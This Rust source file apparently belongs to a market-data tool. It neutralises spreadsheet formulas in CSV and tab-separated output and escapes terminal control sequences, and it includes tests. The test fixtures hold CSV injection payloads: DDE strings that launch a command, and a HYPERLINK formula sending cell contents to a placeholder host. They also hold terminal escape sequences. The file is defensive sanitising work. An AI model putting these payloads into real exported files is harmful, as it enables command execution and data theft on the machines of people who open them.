//! CSV for spreadsheets, in which no cell is a formula, and streams that are safe on a terminal.
//!
//! A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@`, whatever the file says it is. Such a cell gets an
//! apostrophe in front, as the spreadsheet itself writes text that looks like a formula; a number stays a number.

use std::borrow::Cow;
use std::io::{self, IsTerminal, Read, Write};

use anyhow::Context;
use champion_market_data::plain::{escaped, is_unseen};

/// Writes a header and rows as CSV to standard output.
///
/// # Errors
/// Fails when standard output takes no more.
pub(crate) fn print_csv<R: IntoIterator<Item = Vec<String>>>(headers: &[&str], rows: R) -> anyhow::Result<()> {
    write_csv(output(), headers, rows)
}

fn write_csv<R: IntoIterator<Item = Vec<String>>>(out: impl Write, headers: &[&str], rows: R) -> anyhow::Result<()> {
    let mut writer = csv::Writer::from_writer(out);
    writer.write_record(headers.iter().map(|header| cell(header).into_owned()))?;
    for row in rows {
        writer.write_record(row.iter().map(|text| cell(text).into_owned()))?;
    }
    writer.flush().context("writing to standard output")
}

/// A text form with a cell for each value that spreadsheets open.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Sheet {
    /// Values between commas, in quotes where they need them.
    Csv,
    /// Values between tabs, never in quotes.
    Tabs,
}

impl Sheet {
    /// Returns the form that one of ClickHouse's output formats has, if spreadsheets open it.
    pub(crate) fn of(format: &str) -> Option<Self> {
        let lower = format.to_ascii_lowercase();
        if lower.starts_with("csv") {
            Some(Self::Csv)
        } else if lower.starts_with("tabseparated") || lower.starts_with("tsv") || lower.starts_with("raw") {
            Some(Self::Tabs)
        } else {
            None
        }
    }

    /// Copies a sheet cell by cell, none of them a formula afterwards.
    ///
    /// # Errors
    /// Fails when the input cannot be read, is no sheet, or the output takes no more.
    pub(crate) fn copy(self, input: impl Read, out: impl Write) -> anyhow::Result<()> {
        let delimiter = if self == Self::Csv { b',' } else { b'\t' };
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .delimiter(delimiter)
            .quoting(self == Self::Csv)
            .from_reader(input);
        let style = if self == Self::Csv { csv::QuoteStyle::Necessary } else { csv::QuoteStyle::Never };
        let mut writer =
            csv::WriterBuilder::new().flexible(true).delimiter(delimiter).quote_style(style).from_writer(out);
        let mut record = csv::ByteRecord::new();
        while reader.read_byte_record(&mut record)? {
            writer.write_record(record.iter().map(|bytes| cell(&String::from_utf8_lossy(bytes)).into_owned()))?;
        }
        writer.flush().context("writing to standard output")
    }
}

/// Returns a value as a cell that no spreadsheet runs and that holds nothing a terminal obeys.
pub(crate) fn cell(text: &str) -> Cow<'_, str> {
    // What comes before the sign is looked through: spreadsheets leave out blanks and what has no glyph.
    let visible = text.trim_start_matches(|character: char| character.is_whitespace() || is_unseen(character));
    let shown = escaped(text);
    let formula = visible.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !is_number(text);
    if formula { Cow::Owned(format!("'{shown}")) } else { shown }
}

/// Tells whether a text is a plain number: sign, digits, decimals, exponent.
fn is_number(text: &str) -> bool {
    let unsigned = text.strip_prefix(['-', '+']).unwrap_or(text);
    let (mantissa, exponent) = unsigned.split_once(['e', 'E']).unwrap_or((unsigned, "0"));
    let (whole, decimals) = mantissa.split_once('.').unwrap_or((mantissa, "0"));
    let exponent = exponent.strip_prefix(['-', '+']).unwrap_or(exponent);
    [whole, decimals, exponent].iter().all(|part| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit()))
}

/// Returns standard output for bytes that came from elsewhere: as they are into a file or pipe, harmless on a terminal.
pub(crate) fn output() -> Box<dyn Write> {
    let out = io::stdout();
    if out.is_terminal() { Box::new(ForTerminal::new(out)) } else { Box::new(out) }
}

/// Passes text on with everything escaped that a terminal would obey; line ends and tabs stay.
#[derive(Debug)]
pub(crate) struct ForTerminal<W> {
    out: W,
    /// The beginning of a character whose end has not come yet.
    begun: Vec<u8>,
}

impl<W: Write> ForTerminal<W> {
    pub(crate) const fn new(out: W) -> Self {
        Self { out, begun: Vec::new() }
    }

    fn pass(&mut self, text: &str) -> io::Result<()> {
        for piece in text.split_inclusive(['\n', '\t']) {
            let end = piece.strip_suffix(['\n', '\t']).map_or(piece.len(), str::len);
            self.out.write_all(escaped(&piece[..end]).as_bytes())?;
            self.out.write_all(&piece.as_bytes()[end..])?;
        }
        Ok(())
    }
}

impl<W: Write> Write for ForTerminal<W> {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        let mut all = std::mem::take(&mut self.begun);
        all.extend_from_slice(bytes);
        let mut rest = all.as_slice();
        while !rest.is_empty() {
            match std::str::from_utf8(rest) {
                Ok(text) => {
                    self.pass(text)?;
                    break;
                }
                Err(error) => {
                    let (good, bad) = rest.split_at(error.valid_up_to());
                    self.pass(&String::from_utf8_lossy(good))?;
                    let Some(length) = error.error_len() else {
                        self.begun = bad.to_vec();
                        break;
                    };
                    for byte in &bad[..length] {
                        write!(self.out, "\\x{byte:02x}")?;
                    }
                    rest = &bad[length..];
                }
            }
        }
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        for byte in std::mem::take(&mut self.begun) {
            write!(self.out, "\\x{byte:02x}")?;
        }
        self.out.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What a spreadsheet would run.
    const FORMULAS: [&str; 12] = [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.invalid?\"&A1)",
        "+1+cmd|' /C calc'!A0",
        "-1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{feff}=1+1",
        "＝1+1",
    ];
    const NUMBERS: [&str; 9] = ["-12.5", "+5", "0", "10.5000", "-0", "1e9", "-1.5E-7", "18446744073709551616", "-12"];

    fn runs(cell: &str) -> bool {
        let seen = cell.trim_start_matches(|character: char| character.is_whitespace() || is_unseen(character));
        seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && seen.parse::<f64>().is_err()
    }

    #[test]
    fn promise_37_no_cell_is_a_formula_and_numbers_stay_numbers() {
        for formula in FORMULAS {
            assert!(runs(formula) && !runs(&cell(formula)), "{formula:?}");
            assert!(cell(formula).starts_with('\''), "{formula:?}");
        }
        for number in NUMBERS {
            assert_eq!(cell(number), number);
        }
        for text in ["M&M", "BAJAJ-AUTO", "2.5%GOLDBONDS", "a=b", "–", "", "'=1"] {
            assert_eq!(cell(text), text);
        }
    }

    #[test]
    fn promise_37_a_csv_written_here_reads_back_as_the_same_cells_without_a_formula() {
        let rows: Vec<Vec<String>> =
            FORMULAS.iter().chain(&NUMBERS).map(|text| vec![(*text).to_owned(), "a,\"b\"".to_owned()]).collect();
        let mut out = Vec::new();
        write_csv(&mut out, &["=header", "text"], rows.clone()).expect("memory takes it");
        let mut reader = csv::Reader::from_reader(out.as_slice());
        assert_eq!(reader.headers().expect("a header"), vec!["'=header", "text"]);
        let read: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("CSV");
        assert_eq!(read.len(), rows.len());
        for (record, row) in read.iter().zip(&rows) {
            assert_eq!(record.get(0), Some(&*cell(&row[0])));
            assert_eq!(record.get(1), Some("a,\"b\""));
            assert!(!record.iter().any(|cell| runs(cell) || cell.chars().any(is_unseen)), "{record:?}");
        }
    }

    #[test]
    fn promise_37_the_warehouses_own_csv_and_tabs_are_passed_on_without_a_formula() {
        let copy = |sheet: Sheet, input: &str| {
            let mut out = Vec::new();
            sheet.copy(input.as_bytes(), &mut out).expect("a sheet");
            String::from_utf8(out).expect("text")
        };
        let csv = "\"symbol\",\"x\"\n\"=cmd|' /C calc'!A0\",-12.5\n\"a,\"\"b\"\"\",\\N\n\"\u{1b}[2J\",\"-x\"\n";
        assert_eq!(copy(Sheet::Csv, csv), "symbol,x\n'=cmd|' /C calc'!A0,-12.5\n\"a,\"\"b\"\"\",\\N\n\\u{1b}[2J,'-x\n");
        assert_eq!(copy(Sheet::Tabs, "symbol\tx\n=1+1\t-12.5\n\"a\t@b\n"), "symbol\tx\n'=1+1\t-12.5\n\"a\t'@b\n");
    }

    #[test]
    fn the_formats_that_spreadsheets_open_are_known_by_name() {
        for (format, sheet) in [
            ("CSV", Some(Sheet::Csv)),
            ("csvWithNames", Some(Sheet::Csv)),
            ("TabSeparatedWithNames", Some(Sheet::Tabs)),
            ("TSVRaw", Some(Sheet::Tabs)),
            ("JSONEachRow", None),
            ("Parquet", None),
        ] {
            assert_eq!(Sheet::of(format), sheet, "{format}");
        }
    }

    #[test]
    fn promise_37_what_is_passed_to_a_terminal_holds_no_control_sequence_however_it_is_cut() {
        let bytes = "M&M ₹\u{1b}[2J\u{1b}]0;x\u{7}\tb\u{202e}\u{9b}31m\n".as_bytes();
        let mut dirty = bytes.to_vec();
        dirty.extend_from_slice(b"\xff\x9b31m\xe2\x82");
        for size in 1..=dirty.len() {
            let mut safe = ForTerminal::new(Vec::new());
            dirty.chunks(size).for_each(|chunk| safe.write_all(chunk).expect("memory takes it"));
            safe.flush().expect("memory takes it");
            let shown = String::from_utf8(safe.out).expect("text");
            assert_eq!(
                shown, "M&M ₹\\u{1b}[2J\\u{1b}]0;x\\u{7}\tb\\u{202e}\\u{9b}31m\n\\xff\\x9b31m\\xe2\\x82",
                "in pieces of {size}"
            );
        }
    }
}
